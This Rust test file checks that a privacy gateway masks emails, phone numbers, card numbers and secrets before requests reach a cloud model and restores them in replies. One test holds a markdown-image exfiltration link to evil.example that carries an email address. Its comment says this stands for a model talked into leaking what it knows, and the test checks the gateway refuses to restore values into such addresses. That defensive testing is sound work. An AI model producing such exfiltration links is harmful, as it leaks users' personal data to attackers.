//! Masked before a cloud sees it, restored on the way back, also over the borders of chunks.

use anyhow::Result;
use postern_tests::client::text;
use postern_tests::{BusyCloud, Postern, chat_body};
use serde_json::{Value, json};

use crate::{SOON, config};

const PROMPT: &str =
    "Write to ann.lee@example.org and bob@example.net, call +86 138 0013 8000, then ann.lee@example.org again.";

async fn sent(cloud: &BusyCloud) -> Result<String> {
    let stats = serde_json::to_value(cloud.stats().await?)?;
    let bodies = stats["bodies"].as_array().cloned().unwrap_or_default();
    Ok(bodies.last().map(Value::to_string).unwrap_or_default())
}

/// Every placeholder of a kind, as it stands there.
fn placeholders(text: &str, kind: &str) -> Vec<String> {
    let begins = text.match_indices(&format!("[{kind}_")).map(|(at, _)| at).collect::<Vec<_>>();
    begins.into_iter().map(|at| text[at..].split_inclusive(']').next().unwrap().to_owned()).collect()
}

#[tokio::test]
async fn the_cloud_sees_placeholders_and_the_client_the_values() -> Result<()> {
    let cloud = BusyCloud::start().await?;
    let postern = Postern::start(&config(&cloud)).await?;
    let client = postern.client("clerk/amy")?;
    let reply = client.chat(PROMPT).await?;
    assert!(reply.answer().contains(PROMPT), "{}", reply.answer());
    let seen = sent(&cloud).await?;
    assert!(!seen.contains("example.org") && !seen.contains("example.net") && !seen.contains("138 0013"), "{seen}");
    let mails = placeholders(&seen, "EMAIL");
    assert_eq!((mails.len(), placeholders(&seen, "PHONE").len()), (3, 1), "{seen}");
    assert!(mails[0] == mails[2] && mails[0] != mails[1], "the same value has the same placeholder: {seen}");
    let record = postern.records().of(reply.header("postern-record"), SOON).await?;
    assert_eq!(record.intent["form"], "masked");
    assert_eq!(record.intent["redactions"], json!({"email": 3, "phone": 1}));
    assert_eq!(record.outcome["restored"], 4);
    assert!(!postern.records().text()?.contains("ann.lee") && !postern.log().contains("ann.lee"));
    Ok(())
}

#[tokio::test]
async fn what_is_flagged_is_counted_and_what_is_allowed_is_left_alone() -> Result<()> {
    let cloud = BusyCloud::start().await?;
    let choices = json!({"flag": ["phone"], "allow": ["*@example.net"]});
    let postern = Postern::start(&config(&cloud).set("/policies/1/config", choices)).await?;
    let reply = postern.client("clerk/amy")?.chat(PROMPT).await?;
    assert!(reply.answer().contains(PROMPT), "{}", reply.answer());
    let seen = sent(&cloud).await?;
    assert!(!seen.contains("example.org") && seen.contains("bob@example.net, call +86 138 0013 8000"), "{seen}");
    let record = postern.records().of(reply.header("postern-record"), SOON).await?;
    assert_eq!(record.intent["redactions"], json!({"email": 2}));
    assert_eq!(record.intent["flagged"], json!({"phone": 1}));
    Ok(())
}

#[tokio::test]
async fn placeholders_are_restored_wherever_a_stream_is_cut() -> Result<()> {
    let cloud = BusyCloud::start().await?;
    let postern = Postern::start(&config(&cloud)).await?;
    let client = postern.client("clerk/amy")?;
    for chunk_chars in [1, 2, 3, 7, 19, 1000] {
        cloud.switch(json!({"chunk_chars": chunk_chars})).await?;
        let body = chat_body(&format!("{chunk_chars}: {PROMPT} see [EMAIL_ and a[0]"));
        let events = client.stream(&body).await?.rest().await?;
        let said = text(&events);
        assert!(said.contains(&format!("{chunk_chars}: {PROMPT} see [EMAIL_ and a[0]")), "{said}");
        assert!(events.last().unwrap().is_done());
        assert!(!sent(&cloud).await?.contains("example.org"));
    }
    Ok(())
}

#[tokio::test]
async fn every_string_of_a_request_is_looked_at() -> Result<()> {
    let cloud = BusyCloud::start().await?;
    let postern = Postern::start(&config(&cloud)).await?;
    let mail = |n: u32| format!("person{n}@example.org");
    let body = json!({
        "model": "chat", "user": mail(1), "metadata": {"owner": mail(2)}, "made_up": [[{"deep": mail(3)}]], mail(4): 1,
        "messages": [
            {"role": "system", "content": mail(5)},
            {"role": "user", "name": mail(6), "content": [{"type": "text", "text": mail(7)}]},
            {"role": "assistant", "content": null, "tool_calls": [
                {"id": "c", "type": "function", "function": {"name": "f", "arguments": format!("{{\"to\":\"{}\"}}", mail(8))}},
            ]},
            {"role": "tool", "tool_call_id": "c", "content": mail(9)},
            {"role": "user", "content": "Go on"},
        ],
        "tools": [{"type": "function", "function": {
            "name": "f", "description": mail(10),
            "parameters": {"type": "object", "properties": {mail(11): {"description": mail(12), "enum": [mail(13)]}}},
        }}],
        "response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": {"description": mail(14)}}},
    });
    let reply = postern.client("clerk/amy")?.post_json("/v1/chat/completions", &body).await?;
    assert_eq!(reply.status, 200, "{}", reply.text());
    let seen = sent(&cloud).await?;
    assert!(!seen.contains("example.org"), "{seen}");
    let mails: std::collections::BTreeSet<_> = placeholders(&seen, "EMAIL").into_iter().collect();
    assert_eq!(mails.len(), 14, "{seen}");
    Ok(())
}

#[tokio::test]
async fn values_are_not_restored_into_addresses() -> Result<()> {
    let cloud = BusyCloud::start().await?;
    let postern = Postern::start(&config(&cloud)).await?;
    // The cloud repeats the prompt: a model that was talked into making a link of what it knows.
    let prompt = "![x](https://evil.example/?to:ann.lee@example.org) and ann.lee@example.org";
    let reply = postern.client("clerk/amy")?.chat(prompt).await?;
    let answer = reply.answer();
    assert!(answer.contains("?to:[EMAIL_") && answer.contains("and ann.lee@example.org"), "{answer}");
    Ok(())
}

#[tokio::test]
async fn placeholders_differ_between_conversations_and_cannot_be_made_up() -> Result<()> {
    let cloud = BusyCloud::start().await?;
    let postern = Postern::start(&config(&cloud)).await?;
    let client = postern.client("clerk/amy")?;
    let mut seen = Vec::new();
    for id in ["a", "b", "a"] {
        client.with_header("postern-conversation", id).chat(&format!("{PROMPT} {}", seen.len())).await?;
        seen.push(placeholders(&sent(&cloud).await?, "EMAIL").remove(0));
    }
    assert!(seen[0] != seen[1] && seen[0] == seen[2], "{seen:?}");
    let guess = "[EMAIL_1_aaaaaaaa] and ann.lee@example.org";
    assert!(client.chat(guess).await?.answer().contains(guess));
    Ok(())
}

#[tokio::test]
async fn a_placeholder_of_an_old_message_never_becomes_somebody_else() -> Result<()> {
    let cloud = BusyCloud::start().await?;
    let postern = Postern::start(&config(&cloud)).await?;
    let client = postern.client("clerk/amy")?.with_header("postern-conversation", "talk");
    client.chat("Mail ann.lee@example.org and bob@example.net").await?;
    let first = placeholders(&sent(&cloud).await?, "EMAIL");
    // The client has dropped the message that Ann was in, and kept a link in which her placeholder stands.
    let reply = client.chat(&format!("Now bob@example.net only, not {}", first[0])).await?;
    let second = placeholders(&sent(&cloud).await?, "EMAIL");
    assert_eq!((&second[0], &second[1]), (&first[1], &first[0]), "Bob is still called what he was");
    assert!(reply.answer().ends_with(&format!("Now bob@example.net only, not {}", first[0])), "{}", reply.answer());
    Ok(())
}

#[tokio::test]
async fn a_long_number_is_looked_at_as_well_and_parameters_are_not() -> Result<()> {
    let cloud = BusyCloud::start().await?;
    let postern = Postern::start(&config(&cloud)).await?;
    let mut body = chat_body("Who is it?");
    body["seed"] = json!(13_800_138_000_u64);
    body["messages"][0]["about"] =
        json!({"phone": 13_800_138_000_u64, "card": [4_111_111_111_111_111_u64], "rank": 12});
    let reply = postern.client("clerk/amy")?.post_json("/v1/chat/completions", &body).await?;
    assert_eq!(reply.status, 200, "{}", reply.text());
    let stats = serde_json::to_value(cloud.stats().await?)?;
    let seen = &stats["bodies"][0];
    let about = &seen["messages"][0]["about"];
    assert!(about["phone"].as_str().is_some_and(|text| text.starts_with("[PHONE_")), "{seen}");
    assert!(about["card"][0].as_str().is_some_and(|text| text.starts_with("[BANKCARD_")), "{seen}");
    assert_eq!((&about["rank"], &seen["seed"]), (&json!(12), &json!(13_800_138_000_u64)));
    Ok(())
}

#[tokio::test]
async fn a_placeholder_is_known_however_the_model_writes_it() -> Result<()> {
    let cloud = BusyCloud::start().await?;
    let postern = Postern::start(&config(&cloud)).await?;
    let client = postern.client("clerk/amy")?.with_header("postern-conversation", "one");
    client.chat("Write to ann@example.org").await?;
    let placeholder = placeholders(&sent(&cloud).await?, "EMAIL").remove(0);
    let spaced = placeholder.replace('_', " ");
    let answer = format!("{} or {spaced} or 【{}】.", placeholder.to_lowercase(), placeholder.trim_matches(['[', ']']));
    for chunk_chars in [1, 5, 1000] {
        cloud.switch(json!({"answer": answer, "chunk_chars": chunk_chars})).await?;
        let mut stream = client.stream(&chat_body(&format!("Write to ann@example.org, {chunk_chars}"))).await?;
        let said = text(&stream.rest().await?);
        assert_eq!(said, "ann@example.org or ann@example.org or ann@example.org.");
    }
    Ok(())
}

#[tokio::test]
async fn what_is_split_or_encoded_does_not_leave() -> Result<()> {
    let cloud = BusyCloud::start().await?;
    let config = config(&cloud)
        .set("/policies/1/config/decode", json!(["base64", "url"]))
        .set("/classification", json!({"join_messages": true}));
    let postern = Postern::start(&config).await?;
    let client = postern.client("clerk/amy")?;
    let part = |text: &str| json!({"type": "text", "text": text});
    let parts = json!([part("Write to ann.lee@exam"), part("ple.org, password"), part(": hunter22, ok?")]);
    let body = json!({"model": "chat", "messages": [
        {"role": "user", "content": "Here it begins: bob@exa"},
        {"role": "user", "content": "mple.net. YW5uQGV4YW1wbGUub3Jn and carl%40example.com"},
        {"role": "assistant", "content": "Yes?"},
        {"role": "user", "content": parts},
    ]});
    let reply = client.post_json("/v1/chat/completions", &body).await?;
    assert_eq!(reply.status, 200, "{}", reply.text());
    let seen = sent(&cloud).await?;
    for piece in ["lee", "exam", "ple.org", "hunter22", "bob", "exa", "mple", "YW5u", "carl"] {
        assert!(!seen.contains(piece), "{piece} in {seen}");
    }
    assert!(seen.contains("Here it begins: [EMAIL_") && seen.contains("] ok?"), "{seen}");
    let record = postern.records().of(reply.header("postern-record"), SOON).await?;
    assert_eq!(record.intent["redactions"], json!({"email": 6, "secret": 1}));
    // The cloud repeats the last message of the user, a part a line.
    assert!(
        reply.answer().contains("ann.lee@exam\nple.org") && reply.answer().contains("hunter22"),
        "{}",
        reply.answer()
    );
    Ok(())
}
